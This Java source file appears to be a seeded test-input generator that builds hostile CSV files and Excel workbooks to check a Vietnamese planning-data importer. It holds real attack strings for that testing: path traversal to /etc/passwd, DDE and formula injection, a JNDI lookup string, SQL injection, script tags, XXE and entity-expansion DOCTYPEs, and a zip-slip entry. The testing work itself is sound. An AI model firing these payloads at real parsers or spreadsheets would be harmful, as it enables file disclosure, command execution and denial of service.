package vn.bantin.job;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Makes bad inputs, the same for the same seed: folders of CSV files and workbooks that somebody means harm with. */
public final class Hostile {

    /** The rows that are attacked; all six files stand together. */
    static final Map<String, List<String>> GOOD = Map.of(
            "units.csv",
            List.of("code,name,kind,parent,valid_to", "TH,Thanh Hóa,PROVINCE,,", "395,Thọ Xuân,DISTRICT,TH,2025-06-30"),
            "successions.csv",
            List.of("old,new,effective_on,share", "395,TH,2025-07-01,0.5"),
            "programmes.csv",
            List.of("code,title,kind,first_year,last_year,issued_by", "KH,Kế hoạch 2024,ANNUAL,2024,2024,TH"),
            "indicators.csv",
            List.of(
                    "code,name,group,unit_of_measure,measure,direction,decimals,part_of,weight",
                    "THU,Thu ngân sách,Kinh tế,tỷ đồng,FLOW,HIGHER,1,,2",
                    "DAT,Thu tiền đất,Kinh tế,tỷ đồng,FLOW,HIGHER,1,THU,1"),
            "targets.csv",
            List.of(
                    "programme,unit,indicator,basis,comparator,low,high,wording,baseline,pace_q1,due,valid_from",
                    "KH,395,THU,ASSIGNED,AT_LEAST,100,,100 trở lên,,0.2,,",
                    "KH,395,DAT,,,,,từ 50 trở lên,,,,"),
            "progress.csv",
            List.of(
                    "programme,unit,indicator,period,value,quarter_value,state,override_status,override_reason,note",
                    "KH,395,THU,2024-Q1,26.5,26.5,APPROVED,,,",
                    "KH,395,DAT,2024-Q1,12,,SUBMITTED,COMPLETED,đã nghiệm thu,ghi chú"));

    private static final List<String> NAMES = GOOD.keySet().stream().sorted().toList();

    private static final List<Charset> ENCODINGS = List.of(
            StandardCharsets.UTF_16LE,
            StandardCharsets.UTF_16BE,
            StandardCharsets.UTF_16,
            Charset.forName("UTF-32"),
            Charset.forName("UTF-32LE"),
            StandardCharsets.ISO_8859_1,
            Charset.forName("windows-1258"),
            Charset.forName("x-windows-949"));

    private static final List<byte[]> MARKS = List.of(
            bytes(0xEF, 0xBB, 0xBF),
            bytes(0xFF, 0xFE),
            bytes(0xFE, 0xFF),
            bytes(0xFF, 0xFE, 0, 0),
            bytes(0, 0, 0xFE, 0xFF),
            bytes(0xEF, 0xBB),
            bytes(0x2B, 0x2F, 0x76, 0x38));

    /** What a cell says: numbers beyond measure, ways out of a folder, names of devices, formulas, markup, odd signs. */
    static final List<String> CELLS = List.of(
            "1e999999999",
            "1E-999999999",
            "10^400",
            "9".repeat(400),
            "0." + "0".repeat(5000) + "1",
            "-" + "9".repeat(64),
            "NaN",
            "-Infinity",
            "∞",
            "0x7fffffff",
            "١٢٣",
            "1.797693134862315E308",
            "--1",
            "1,2,3.4.5",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/shadow",
            "C:\\x",
            "\\\\server\\share",
            "file:///etc/passwd",
            "CON",
            "nul.txt",
            "AUX",
            "COM1",
            "lpt9.",
            ".",
            "..",
            "...",
            "tên có dấu chấm cuối...",
            "x".repeat(300),
            "ế".repeat(300),
            "W".repeat(70_000),
            "=1+1",
            "=HYPERLINK(\"http://a.b\",\"x\")",
            "=cmd|' /C calc'!A0",
            "+84",
            "-1+1",
            "@SUM(1)",
            "＝1",
            "\t=1",
            "<script>alert(1)</script>",
            "<style isBold=\"true\">x</style>",
            "<img src=\"file:///etc/passwd\"/>",
            "${jndi:ldap://a.b/c}",
            "$P{REPORT_CONNECTION}",
            "%s%n%x",
            "{0}",
            "' or 1=1 --",
            "'; drop table units; --",
            "\u0000",
            "a\u0000b",
            "\u001b[31m",
            "\u202e\u2066",
            "\uFFFE",
            "\uFFFF",
            "\uD800",
            "\uDBFF\uDFFF",
            "e" + "\u0301".repeat(500),
            "\u200b",
            "\u2028",
            "2024-Q5",
            "0000-Q1",
            "9999-12-31",
            "2024-02-30",
            "true",
            "",
            " ",
            "-",
            "#REF!",
            "KH/395/THU",
            "Thọ Xuân");

    private Hostile() {}

    /** One bad input: the file that is attacked, and its bytes. */
    record Input(String file, byte[] bytes, String what) {
        @Override
        public String toString() {
            return file + ": " + what;
        }
    }

    static Input csv(long seed) {
        Random random = new Random(seed);
        String file = NAMES.get(random.nextInt(NAMES.size()));
        List<String> rows = GOOD.get(file);
        String good = String.join("\n", rows) + "\n";
        return switch (random.nextInt(8)) {
            case 0 -> new Input(file, bytes(good, ENCODINGS.get(random.nextInt(ENCODINGS.size()))), "encoding");
            case 1 -> new Input(file, joined(MARKS.get(random.nextInt(MARKS.size())), utf8(good)), "byte order mark");
            case 2 -> new Input(file, spoiled(utf8(good), random), "bytes");
            case 3 -> new Input(file, utf8(quoted(good, random)), "quotes");
            case 4 -> new Input(file, utf8(repeated(rows, random)), "rows again");
            case 5 -> new Input(file, utf8(header(rows, random)), "header");
            default -> new Input(file, utf8(celled(rows, random)), "cells");
        };
    }

    private static String celled(List<String> rows, Random random) {
        StringBuilder text = new StringBuilder(rows.get(0)).append('\n');
        for (String row : rows.subList(1, rows.size())) {
            String[] cells = row.split(",", -1);
            int times = 1 + random.nextInt(3);
            for (int i = 0; i < times; i++) {
                String cell = CELLS.get(random.nextInt(CELLS.size()));
                String quoted = "\"" + cell.replace("\"", "\"\"") + "\"";
                cells[random.nextInt(cells.length)] = random.nextInt(4) == 0 ? cell : quoted;
            }
            text.append(String.join(",", cells)).append(random.nextBoolean() ? "\n" : "\r\n");
        }
        return text.toString();
    }

    private static String header(List<String> rows, Random random) {
        String[] names = rows.get(0).split(",");
        names[random.nextInt(names.length)] = switch (random.nextInt(4)) {
            case 0 -> CELLS.get(random.nextInt(CELLS.size()));
            case 1 -> names[0];
            case 2 -> "x,".repeat(random.nextInt(2000)) + "x";
            default -> names[0].toUpperCase() + " ";
        };
        return String.join(",", names) + "\n" + String.join("\n", rows.subList(1, rows.size()));
    }

    private static String quoted(String good, Random random) {
        int at = random.nextInt(good.length());
        return good.substring(0, at) + "\"".repeat(1 + random.nextInt(5)) + good.substring(at);
    }

    private static String repeated(List<String> rows, Random random) {
        String row = rows.get(1 + random.nextInt(rows.size() - 1));
        return rows.get(0) + "\n" + (row + "\n").repeat(2 + random.nextInt(200)) + ",".repeat(random.nextInt(40))
                + "\n";
    }

    private static byte[] spoiled(byte[] good, Random random) {
        byte[] spoiled = good.clone();
        int times = 1 + random.nextInt(8);
        for (int i = 0; i < times; i++) {
            spoiled[random.nextInt(spoiled.length)] = (byte) random.nextInt(256);
        }
        return random.nextInt(4) == 0 ? java.util.Arrays.copyOf(spoiled, random.nextInt(spoiled.length)) : spoiled;
    }

    /** A workbook of one sheet with the rows as inline strings, and something in it that should not be. */
    static Input workbook(long seed) {
        Random random = new Random(seed);
        String sheet = NAMES.get(random.nextInt(NAMES.size())).replace(".csv", "");
        String cells = celled(GOOD.get(sheet + ".csv"), random);
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", TYPES);
        parts.put("_rels/.rels", rels("officeDocument", "xl/workbook.xml"));
        parts.put(
                "xl/workbook.xml",
                XML + "<workbook" + MAIN + " xmlns:r=\"" + RELATIONS + "\"><sheets><sheet name=\"" + sheet
                        + "\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>");
        parts.put("xl/_rels/workbook.xml.rels", rels("worksheet", "worksheets/sheet1.xml"));
        String doctype = "";
        String data = rows(cells);
        switch (random.nextInt(10)) {
            case 0 -> doctype = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>";
            case 1 ->
                doctype =
                        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">]>";
            case 2 -> data = data.replaceFirst("<t>[^<]*</t>", "<t>&c;</t>");
            case 3 -> data = "<a>".repeat(5_000) + data;
            case 4 -> data = "<row r=\"1\"><c r=\"ZZZZ1\" t=\"inlineStr\"><is><t>x</t></is></c></row>" + data;
            case 5 -> data = data.replaceFirst("r=\"2\"", "r=\"99999999999\"");
            case 6 -> data = data.replaceFirst("<c ", "<c s=\"2147483648\" ");
            case 7 -> data = data.replaceFirst("t=\"inlineStr\"", "t=\"s\"");
            case 8 -> data = data.replaceFirst("<c ", "<c x=\"" + "y".repeat(100_000) + "\" ");
            default -> {}
        }
        String formula = random.nextInt(4) == 0
                ? "<row r=\"9\"><c r=\"A9\"><f>WEBSERVICE(\"http://a\")</f><v>1e999</v></c></row>"
                : "";
        parts.put(
                "xl/worksheets/sheet1.xml",
                XML + doctype + "<worksheet" + MAIN + "><sheetData>" + data + formula + "</sheetData></worksheet>");
        if (random.nextInt(6) == 0) {
            parts.put("../../evil.xml", "x");
        }
        if (random.nextInt(8) == 0) {
            parts.put("docProps/core.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>");
        }
        byte[] bytes = zip(parts);
        return new Input("a.xlsx", random.nextInt(10) == 0 ? spoiled(bytes, random) : bytes, "workbook of " + sheet);
    }

    private static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    private static final String MAIN = " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final String PACKAGE = "http://schemas.openxmlformats.org/package/2006/";

    static final String TYPES = XML + "<Types xmlns=\"" + PACKAGE + "content-types\"><Default Extension=\"rels\""
            + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\""
            + " ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\""
            + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override"
            + " PartName=\"/xl/worksheets/sheet1.xml\""
            + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>";

    /** The parts of a workbook with one sheet, units, in which nothing stands yet. */
    public static Map<String, String> skeleton() {
        Map<String, String> parts = new LinkedHashMap<>();
        String styles = "<Override PartName=\"/xl/styles.xml\""
                + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/></Types>";
        parts.put("[Content_Types].xml", TYPES.replace("</Types>", styles));
        parts.put("_rels/.rels", rels("officeDocument", "xl/workbook.xml"));
        parts.put(
                "xl/workbook.xml",
                XML + "<workbook" + MAIN + " xmlns:r=\"" + RELATIONS
                        + "\"><sheets><sheet name=\"units\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>");
        parts.put(
                "xl/_rels/workbook.xml.rels",
                rels("worksheet", "worksheets/sheet1.xml")
                        .replace(
                                "</Relationships>",
                                "<Relationship Id=\"r2\" Type=\"" + RELATIONS
                                        + "/styles\" Target=\"styles.xml\"/></Relationships>"));
        parts.put("xl/worksheets/sheet1.xml", XML + "<worksheet" + MAIN + "><sheetData></sheetData></worksheet>");
        parts.put("xl/styles.xml", XML + "<styleSheet" + MAIN + "></styleSheet>");
        return parts;
    }

    private static String rels(String kind, String target) {
        return XML + "<Relationships xmlns=\"" + PACKAGE + "relationships\"><Relationship Id=\"r1\" Type=\"" + RELATIONS
                + "/" + kind + "\" Target=\"" + target + "\"/></Relationships>";
    }

    private static String rows(String csv) {
        StringBuilder rows = new StringBuilder();
        int number = 1;
        for (String line : csv.split("\r?\n")) {
            String at = " r=\"" + number++ + "\"";
            rows.append("<row").append(at).append('>');
            for (String cell : line.split(",", -1)) {
                rows.append("<c t=\"inlineStr\"><is><t>").append(escaped(cell)).append("</t></is></c>");
            }
            rows.append("</row>");
        }
        return rows.toString();
    }

    private static String escaped(String cell) {
        return cell.replace("&", "&amp;")
                .replace("<", "&lt;")
                .chars()
                .filter(c -> c >= ' ' && c < 0xD800)
                .mapToObj(c -> String.valueOf((char) c))
                .collect(Collectors.joining());
    }

    static byte[] zip(Map<String, String> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(utf8(part.getValue()));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] bytes(String text, Charset charset) {
        return text.getBytes(charset);
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] joined = java.util.Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, joined, first.length, second.length);
        return joined;
    }
}
